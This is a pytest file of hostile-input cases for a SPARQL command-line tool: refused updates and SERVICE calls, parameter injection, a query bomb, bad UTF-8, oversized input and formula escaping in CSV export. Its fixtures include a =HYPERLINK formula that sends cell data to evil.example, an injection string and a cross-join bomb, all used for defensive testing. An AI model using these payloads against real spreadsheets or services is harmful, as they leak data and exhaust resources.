"""SPARQL from the command line: refused forms, injection, bombs, stdin, CSV for spreadsheets."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from bad_inputs.corpus import Case, parametrize, run_all, verify

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx"]
FORMULA_TTL = (
    "@prefix cp: <https://w3id.org/certpath/ontology#> .\n"
    "@prefix cpd: <https://w3id.org/certpath/data/> .\n"
    "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .\n"
    + "".join(
        f"cpd:f{i} a cp:Course ; skos:prefLabel {json.dumps(label)} .\n"
        for i, label in enumerate([*FORMULAS, "-5", "Plain course"])
    )
)
HEADER = "id,label,type,provider,hours,cost,currency,delivery_mode,teaches,prerequisites,source_url"
LABELS = "SELECT ?label WHERE { ?c a cp:Course ; skos:prefLabel ?label } ORDER BY ?label"
BOMB = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"


def csv_cells_are_text(_folder: Path, done: Any) -> None:
    rows = list(csv.reader(io.StringIO(done.stdout.decode("utf-8"), newline="")))
    cells = {row[0] for row in rows[1:]}
    assert {"'" + formula for formula in FORMULAS} <= cells, cells
    assert {"-5", "Plain course"} <= cells, cells  # numbers and text stay as they are


def tsv_unchanged(_folder: Path, done: Any) -> None:
    assert '"=HYPERLINK(' in done.stdout.decode("utf-8")  # TSV/JSON/XML keep the exact values


def warned(_folder: Path, done: Any) -> None:
    assert "warning: c.csv:2: column label: '=HYPERLINK(" in done.stderr.decode("utf-8")


def no_rows(_folder: Path, done: Any) -> None:
    assert json.loads(done.stdout)["results"]["bindings"] == []


CASES = [
    # ---- what already worked at 403bafe (kept working)
    Case(
        "update-insert",
        ("query", "INSERT DATA { <urn:a> <urn:b> <urn:c> }"),
        2,
        "updates are refused: the graph is read-only (found INSERT)",
    ),
    Case(
        "update-delete",
        ("query", "DELETE WHERE { ?s ?p ?o }"),
        2,
        "updates are refused: the graph is read-only (found DELETE)",
    ),
    Case(
        "update-load",
        ("query", "LOAD <http://127.0.0.1:9/x.ttl>"),
        2,
        "updates are refused: the graph is read-only (found LOAD)",
    ),
    Case(
        "service",
        ("query", "SELECT * WHERE { SERVICE <http://127.0.0.1:9/s> { ?s ?p ?o } }"),
        2,
        "SERVICE is refused: a query must not reach the network",
    ),
    Case(
        "from-remote",
        ("query", "SELECT * FROM <http://127.0.0.1:9/g> WHERE { ?s ?p ?o }"),
        2,
        "FROM/FROM NAMED is refused",
    ),
    Case("syntax-error", ("query", "SELECT * WHERE { ?s ?p "), 2, "syntax error at line 1"),
    Case("unknown-named-query", ("query", "nope-query"), 4, "no named query 'nope-query'"),
    Case(
        "parameter-injection",
        # an ad-hoc query's parameter is a literal (a named query's entity parameter is a name,
        # resolved like every command's: test_stores.py)
        (
            "query",
            "SELECT ?role ?c WHERE { ?role cp:requires ?c }",
            "--param",
            'role=x" || "1" = "1',
            "--format",
            "json",
        ),
        0,
        '"bindings"',
        after=no_rows,
    ),
    Case(
        "query-bomb-times-out",
        ("query", BOMB, "--timeout", "1"),
        5,
        "timed out after 1 s",
        timeout=30,
    ),
    Case(
        "row-limit",
        ("query", "SELECT * WHERE { ?s ?p ?o }", "--limit", "5"),
        5,
        "truncated at 5 rows",
    ),
    Case("stdin-query", ("query", "-f", "-", "--format", "csv"), 0, "label", stdin=LABELS.encode()),
    Case(
        "query-file-not-utf8",
        ("query", "-f", "q.rq"),
        2,
        "q.rq: not UTF-8 text",
        {"q.rq": b"SELECT * WHERE { ?s ?p \xff }"},
    ),
    # ---- issue 15, item 13: invalid UTF-8 on stdin (UnicodeEncodeError)
    Case(
        "stdin-not-utf8",
        ("query", "-f", "-"),
        2,
        "stdin: not UTF-8 text (byte 0)",
        stdin=b"\xff\xfeSELECT",
    ),
    Case(
        "stdin-not-utf8-later",
        ("query", "-f", "-"),
        2,
        "stdin: not UTF-8 text (byte 23)",
        stdin=b"SELECT * WHERE { ?s ?p \xe9 }",
    ),
    # ---- issue 15, item 10: spreadsheet formulas came back unchanged in --format csv
    Case(
        "csv-formulas-are-text",
        ("--data", "f.ttl", "query", LABELS, "--format", "csv"),
        0,
        "label",
        {"f.ttl": FORMULA_TTL},
        after=csv_cells_are_text,
    ),
    Case(
        "tsv-keeps-values",
        ("--data", "f.ttl", "query", LABELS, "--format", "tsv"),
        0,
        "?label",
        {"f.ttl": FORMULA_TTL},
        after=tsv_unchanged,
    ),
    Case(
        "catalog-warns-of-formulas",
        ("import", "catalog", "c.csv", "-o", "c.ttl"),
        0,
        "triples written to c.ttl",
        {"c.csv": HEADER + '\nf1,"=HYPERLINK(""http://evil.example"")",course,,,,,,,,\n'},
        after=warned,
    ),
    # ---- found by hostile2: item 19's BOM in a query file (stdin skipped it, a file did not:
    # "unexpected '\ufeff'"); a query file or stdin was read whole, however large
    Case(
        "query-file-bom",
        ("query", "-f", "q.rq", "--format", "json"),
        0,
        '"boolean":true',
        {"q.rq": b"\xef\xbb\xbfASK { ?s ?p ?o }"},
    ),
    Case(
        "query-file-over-1-mb",
        ("query", "-f", "q.rq"),
        2,
        "q.rq: larger than 1 MB; a query is text",
        {"q.rq": "# padding\n" * 110_000 + "ASK {}"},
    ),
    Case(
        "query-stdin-over-1-mb",
        ("query", "-f", "-"),
        2,
        "stdin: larger than 1 MB",
        stdin=b" " * 1_100_000,
    ),
    Case("query-file-folder", ("query", "-f", "."), 2, ".: cannot read: Is a directory"),
    # --timeout nan gave a traceback (select() on NaN); inf ran unbounded
    Case("timeout-nan", ("query", "ASK {}", "--timeout", "nan"), 2, "Invalid value for '--timeo"),
    Case("timeout-inf", ("query", "ASK {}", "--timeout", "1e999"), 2, "Invalid value for '--timeo"),
    Case(
        "serve-timeout-nan",
        ("serve", "--port", "0", "--timeout", "NaN"),
        2,
        "Invalid value for '--timeout': nan is not a number of seconds",
        timeout=60,
    ),
]


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    return run_all(CASES, tmp_path_factory.mktemp("query"))


@parametrize(CASES)
def test_case(case: Case, results: dict[str, Any]) -> None:
    verify(case, *results[case.id])
